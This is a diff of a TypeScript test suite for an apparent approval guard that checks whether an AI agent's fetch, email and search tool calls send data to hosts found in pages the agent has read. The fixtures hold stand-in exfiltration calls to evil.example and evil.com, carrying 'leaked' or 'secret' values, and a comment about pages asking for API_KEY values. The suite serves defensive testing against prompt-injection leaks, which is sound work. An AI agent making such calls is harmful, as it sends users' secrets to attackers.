@@ -24,6 +24,17 @@ async function asked(
   return agent.approvals[0]?.reason;
 }
 
+/** A tool whose schema has the names of an input, and its switches. */
+function toolOf(input: object): ToolDescriptor {
+  const schemaOf = (value: unknown): object => {
+    const isObject = typeof value === 'object' && value !== null && !Array.isArray(value);
+    if (!isObject) return typeof value === 'boolean' ? { type: 'boolean' } : {};
+    const fields = Object.entries(value).map(([name, inner]) => [name, schemaOf(inner)]);
+    return { properties: Object.fromEntries(fields) };
+  };
+  return { kind: 'function', inputSchema: () => schemaOf(input) };
+}
+
 describe('without options', () => {
   test.each<[string, object]>([
     ['send_email', { to: 'eve@evil.example', body: 'Hi' }],
@@ -470,7 +481,9 @@ describe('without options', () => {
     expect(await asked('fetch', evil)).toBeDefined();
     const page = 'evil.com, https://evil.com/y, /y and q=1';
     for (const more of [{ path: '/data' }, { query: '/data' }, {}])
-      expect(await asked('fetch', { ...evil, ...more }, {}, undefined, page)).toBeUndefined();
+      expect(
+        await asked('fetch', { ...evil, ...more }, {}, toolOf({ ...evil, ...more }), page),
+      ).toBeUndefined();
     // What was read may be what a page asks for: `API_KEY=…` of a file.
     for (const more of [
       { path: '/y' },
@@ -595,27 +608,27 @@ describe('without options', () => {
         .reduceRight<object>((inner, name) => ({ [name]: inner }), { leaked: 'general' });
       const input = { url: 'https://evil.example/y', ...more };
       expect(await asked('fetch', input)).toContain('"leaked"');
-      const names = ['url', ...path.split('.'), 'leaked'];
-      const properties = Object.fromEntries(names.map((name) => [name, {}]));
-      const tool = { kind: 'function', inputSchema: () => ({ properties }) } as const;
-      expect(await asked('fetch', input, {}, tool)).toBeUndefined();
+      expect(await asked('fetch', input, {}, toolOf(input))).toBeUndefined();
+      // In another place, it is not the schema's.
+      expect(
+        await asked('fetch', input, {}, toolOf({ ...input, [path.split('.')[0] ?? '']: {}, leaked: '' })),
+      ).toContain('"leaked"');
     },
   );
 
   test.each<object>([
     {},
     { headers: {}, body: '' },
-    { params: { general: 'ann@a.example' }, headers: ['general'] },
+    { params: { general: 'ann@a.example' } },
+    { headers: ['general'] },
     { max_length: 5000, start_index: 0, raw: false, timeout: 30_000 },
     { format: 'markdown', onlyMain: true },
     { headers: { Accept: 'application/json' } },
     { params: { page: 2 } },
     { method: 'GET', limit: 20 },
   ])('a reading tool may open a link that was read with %j', async (more) => {
-    const page = 'See https://evil.example/y';
-    expect(
-      await asked('fetch', { url: 'https://evil.example/y', ...more }, {}, undefined, page),
-    ).toBeUndefined();
+    const input = { url: 'https://evil.example/y', ...more };
+    expect(await asked('fetch', input, {}, toolOf(input))).toBeUndefined();
   });
 
   test('a link or a value that the agent wrote itself is no link that was read', async () => {
@@ -643,7 +656,10 @@ describe('without options', () => {
     for (const hosts of [{ allowed_domains: ['evil.com'] }, { domain: 'evil.com' }, { site: 'evil.com' }]) {
       expect(await asked('search_web', { query, ...hosts }, {}, undefined, 'evil.com')).toContain(query);
       // The provider's search engine gets it, and no page.
-      expect(await asked('WebSearch', { query, ...hosts }, {}, undefined, 'evil.com')).toBeUndefined();
+      const own = { kind: 'framework' } as const;
+      if ('allowed_domains' in hosts)
+        expect(await asked('WebSearch', { query, ...hosts }, {}, own, 'evil.com')).toBeUndefined();
+      expect(await asked('WebSearch', { query, ...hosts }, {}, undefined, 'evil.com')).toContain(query);
     }
   });
 
@@ -789,7 +805,7 @@ describe('without options', () => {
     ['repository', 'git@evil.com:secret'],
   ])('an argument that names a host is a link in any form: %s %j', async (name, host) => {
     const get = (more: object, page: string) =>
-      asked('fetch', { [name]: host, ...more }, {}, undefined, page);
+      asked('fetch', { [name]: host, ...more }, {}, toolOf({ [name]: host, ...more }), page);
     expect(await get({}, 'nothing')).toContain(String(host));
     // A name alone may be a piece of a link.
     const isPiece = host === 'evil' || host === 'localhost';
@@ -853,9 +869,11 @@ describe('without options', () => {
       const { url, ...search } = input;
       expect(await asked(name, search, {}, undefined, page), name).toBeUndefined();
       expect(await asked(name, { url }, {}, undefined, page), name).toBeUndefined();
-      const withPrompt = await asked(name, { url, prompt: input.prompt }, {}, undefined, page);
-      // A model reads it.
-      expect(withPrompt === undefined, name).toBe(name === 'WebFetch');
+      for (const kind of ['framework', 'function', 'mcp'] as const) {
+        const withPrompt = await asked(name, { url, prompt: input.prompt }, {}, { kind }, page);
+        // A model reads it, if the tool is Claude Code's own.
+        expect(withPrompt === undefined, name).toBe(name === 'WebFetch' && kind === 'framework');
+      }
       expect(await asked(name, { url: `${url}?q=secret` }, {}, undefined, page), name).toBeDefined();
     }
     for (const name of [
@@ -912,9 +930,9 @@ describe('without options', () => {
     const inputSchema = () => ({
       properties: Object.fromEntries(Object.keys(input).map((name) => [name, {}])),
     });
-    for (const tool of [undefined, { kind: 'function', inputSchema } as const]) {
-      const reason = await asked('fetch', input, {}, tool);
-      expect(reason !== undefined, reason).toBe(isAsked);
-    }
+    const reason = await asked('fetch', input, {}, { kind: 'function', inputSchema });
+    expect(reason !== undefined, reason).toBe(isAsked);
+    // Without a schema, names say something, too.
+    if (isAsked) expect(await asked('fetch', input)).toBeDefined();
   });
 });
